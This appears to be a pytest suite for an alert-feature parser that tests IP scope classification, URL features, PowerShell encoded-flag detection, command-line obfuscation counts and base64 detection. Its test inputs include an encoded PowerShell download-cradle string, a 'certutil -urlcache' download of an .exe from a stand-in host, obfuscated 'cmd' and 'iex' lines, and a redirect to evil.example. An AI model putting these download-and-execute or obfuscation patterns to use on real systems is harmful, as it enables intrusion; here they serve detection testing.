"""Pure field parsers: IPs, URLs, command lines and text statistics, with concrete values."""

import math

import pytest

from alertlens.features.parsers import (
    NO_VALUE,
    command_line_features,
    count_percent_encoded,
    executable_name,
    in_networks,
    ip_scope,
    is_encoded_flag,
    parse_ip,
    parse_network,
    shannon_entropy,
    split_command_line,
    text_stats,
    url_features,
)

ENCODED = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"


@pytest.mark.parametrize(
    ("text", "bits"),
    [("aabb", 1.0), ("", 0.0), ("aaaa", 0.0), ("abcd", 2.0), ("ééaa", 1.0), ("ab" * 3000, 1.0)],
)
def test_shannon_entropy(text, bits):
    # "ééaa" takes the non-ASCII path and "ab" * 3000 the long-text path; all must agree.
    assert shannon_entropy(text) == pytest.approx(bits, abs=1e-12)


def test_entropy_of_aabb_is_exactly_one_bit():
    assert shannon_entropy("aabb") == 1.0


def test_parse_ip_private_v4_with_subnet():
    ip = parse_ip(" 10.0.5.3 ")
    assert (ip.version, ip.scope, ip.subnet) == (4, "private", "10.0.5.0/24")
    assert ip.value == (10 << 24) | (5 << 8) | 3


@pytest.mark.parametrize(
    ("text", "scope"),
    [
        ("8.8.8.8", "public"),
        ("172.16.0.1", "private"),
        ("172.32.0.1", "public"),
        ("192.168.1.1", "private"),
        ("100.64.0.1", "private"),
        ("127.0.0.1", "loopback"),
        ("169.254.10.1", "link_local"),
        ("224.0.0.251", "multicast"),
        ("239.255.255.250", "multicast"),
        ("0.0.0.0", "reserved"),
        ("255.255.255.255", "reserved"),
        ("192.0.2.1", "reserved"),
        ("::1", "loopback"),
        ("::", "reserved"),
        ("fe80::1", "link_local"),
        ("ff02::1", "multicast"),
        ("fd00::1", "private"),
        ("2001:db8::1", "reserved"),
        ("2001:4860:4860::8888", "public"),
        ("::ffff:10.0.0.1", "private"),
        ("not-an-ip", "invalid"),
        ("1.2.3.256", "invalid"),
        ("01.2.3.4", "invalid"),
        ("1.2.3", "invalid"),
        ("1.2.3.4.5", "invalid"),
        ("", "invalid"),
        ("\u0661.\u0662.\u0663.\u0664", "invalid"),  # Arabic-Indic digits are digits to isdigit
        ("10.0.0.1:443", "invalid"),
        ("gggg::1", "invalid"),
    ],
)
def test_ip_scopes(text, scope):
    assert parse_ip(text).scope == scope


def test_invalid_ip_has_no_subnet_and_no_network():
    ip = parse_ip("nope")
    assert (ip.version, ip.subnet) == (0, None)
    assert not in_networks(ip, [parse_network("0.0.0.0/0")])


def test_ipv6_subnet_is_the_48():
    assert parse_ip("2001:db8:1:2::5").subnet == "2001:db8:1::/48"


def test_ipv4_mapped_ipv6_reads_as_ipv4():
    assert parse_ip("::ffff:10.0.5.3") == parse_ip("10.0.5.3")


def test_network_membership():
    scanners = [parse_network("10.0.5.0/28")]
    assert in_networks(parse_ip("10.0.5.3"), scanners)
    assert in_networks(parse_ip("10.0.5.15"), scanners)
    assert not in_networks(parse_ip("10.0.5.16"), scanners)
    assert not in_networks(parse_ip("::1"), scanners)  # version mismatch is "not in"
    assert in_networks(
        parse_ip("fd12::1"), [parse_network("10.0.0.0/8"), parse_network("fc00::/7")]
    )


def test_parse_network_rejects_host_bits():
    with pytest.raises(ValueError, match="host bits"):
        parse_network("10.0.5.1/28")


def test_ip_scope_from_integer():
    assert ip_scope(4, 0x0A000001) == "private"
    assert ip_scope(4, 0x08080808) == "public"


def test_url_features_of_double_encoded_php_path():
    url = url_features("/a/b/c.php?x=1&y=%2527")
    assert url.path_depth == 3.0
    assert url.path_length == 10.0
    assert url.query_length == 11.0
    assert url.n_params == 2.0
    assert url.extension == "php"
    assert url.pct_encoded == 1.0
    assert url.double_encoded == 1.0
    assert math.isnan(url.host_is_ip)  # a bare path has no host to judge


@pytest.mark.parametrize(
    ("text", "host_is_ip", "depth", "extension"),
    [
        ("http://192.168.1.10:8080/x", 1.0, 1.0, NO_VALUE),
        ("https://user@[::1]:443/static/a.JS#frag", 1.0, 2.0, "js"),
        ("https://example.com/dir/", 0.0, 1.0, NO_VALUE),
        ("//cdn.example.com/lib/.htaccess", 0.0, 2.0, NO_VALUE),
        ("/login.jsp;jsessionid=ABC", math.nan, 1.0, "jsp"),
        ("/redirect?to=http://evil.example/a.exe", math.nan, 1.0, NO_VALUE),
        ("", math.nan, 0.0, NO_VALUE),
    ],
)
def test_url_host_depth_extension(text, host_is_ip, depth, extension):
    url = url_features(text)
    assert url.host_is_ip == host_is_ip or (math.isnan(host_is_ip) and math.isnan(url.host_is_ip))
    assert (url.path_depth, url.extension) == (depth, extension)


def test_url_without_double_encoding():
    url = url_features("/search?q=%41%42&&page=2")
    assert (url.pct_encoded, url.double_encoded, url.n_params) == (2.0, 0.0, 2.0)


def test_encoded_powershell_command_line():
    cmd = command_line_features(f"powershell.exe -NoP -enc {ENCODED}")
    assert cmd.executable == "powershell.exe"
    assert cmd.n_args == 3.0
    assert cmd.has_encoded_flag == 1.0
    assert cmd.has_url == 0.0


def test_execution_policy_bypass_is_not_an_encoded_flag():
    cmd = command_line_features("powershell.exe -ExecutionPolicy Bypass -File run.ps1")
    assert cmd.has_encoded_flag == 0.0
    assert cmd.n_args == 4.0


@pytest.mark.parametrize(
    "arg",
    [
        "-e",
        "-en",
        "-enc",
        "-EncodedCommand",
        "-ENCODEDCOMMAND",
        "/enc",
        "-ec",
        "\u2013enc",
        '"-enc"',
    ],
)
def test_encoded_flag_spellings(arg):
    assert is_encoded_flag(arg)


@pytest.mark.parametrize("arg", ["-executionpolicy", "-encodedcommandx", "-", "enc", "-nop"])
def test_not_encoded_flags(arg):
    assert not is_encoded_flag(arg)


def test_quoted_windows_executable_and_quoted_arguments():
    cmd = command_line_features('"C:\\Program Files\\App\\App.EXE" /run "a b" \'c d\'')
    assert cmd.executable == "app.exe"
    assert cmd.n_args == 3.0


def test_split_command_line_keeps_quoted_parts_together():
    assert split_command_line('cmd /c "echo a b"x y') == ["cmd", "/c", '"echo a b"x', "y"]
    assert split_command_line("  a   b ") == ["a", "b"]


def test_executable_name_of_posix_path():
    assert executable_name("/usr/bin/Python3") == "python3"
    assert executable_name('""') == NO_VALUE


def test_url_and_obfuscation_in_command_line():
    cmd = command_line_features('c^m^d /c "who""ami" & certutil -urlcache -f http://x/a.exe a.exe')
    assert cmd.executable == "c^m^d"
    assert cmd.has_url == 1.0
    assert cmd.n_obfuscation_chars == 3.0  # two carets, one doubled quote
    assert command_line_features("iex `(`n`e`w)").n_obfuscation_chars == 4.0


def test_empty_command_line():
    cmd = command_line_features("   ")
    assert (cmd.executable, cmd.n_args, cmd.has_encoded_flag) == (NO_VALUE, 0.0, 0.0)


def test_text_stats_character_classes():
    stats = text_stats("AB12+/==")
    assert stats.length == 8.0
    assert stats.upper_ratio == 0.25
    assert stats.digit_ratio == 0.25
    assert stats.special_ratio == 0.5
    assert stats.longest_base64_run == 8.0
    assert stats.has_base64 == 0.0  # shorter than 20


def test_text_stats_counts_characters_not_bytes():
    stats = text_stats("héllo wörld")
    assert stats.length == 11.0
    assert stats.special_ratio == pytest.approx(2 / 11)  # é and ö; the space is not special
    assert stats.entropy == shannon_entropy("héllo wörld")


def test_hex_run_and_percent_encoding():
    stats = text_stats("id=xx deadBEEF42 zz %41%4g%2F")
    assert stats.hex_run == 10.0
    assert stats.url_encoded_count == 2.0
    assert count_percent_encoded("no escapes") == 0


@pytest.mark.parametrize(
    ("text", "has_base64"),
    [
        (f"powershell -enc {ENCODED}", 1.0),
        ("q=SGVsbG8gd29ybGQhIFRoaXMgaXM=", 1.0),  # "=" inside the run, payload after it decodes
        ("abcdefghijklmnopqrs", 0.0),  # 19 characters: too short
        ("abcdefghijklmnopqrstu", 0.0),  # 21 characters: not a whole number of base64 quanta
        ("C:\\Windows\\System32\\drivers\\etc\\hosts", 0.0),
    ],
)
def test_has_base64(text, has_base64):
    assert text_stats(text).has_base64 == has_base64


def test_text_stats_of_empty_text_are_zero():
    assert text_stats("") == (0.0,) * 9
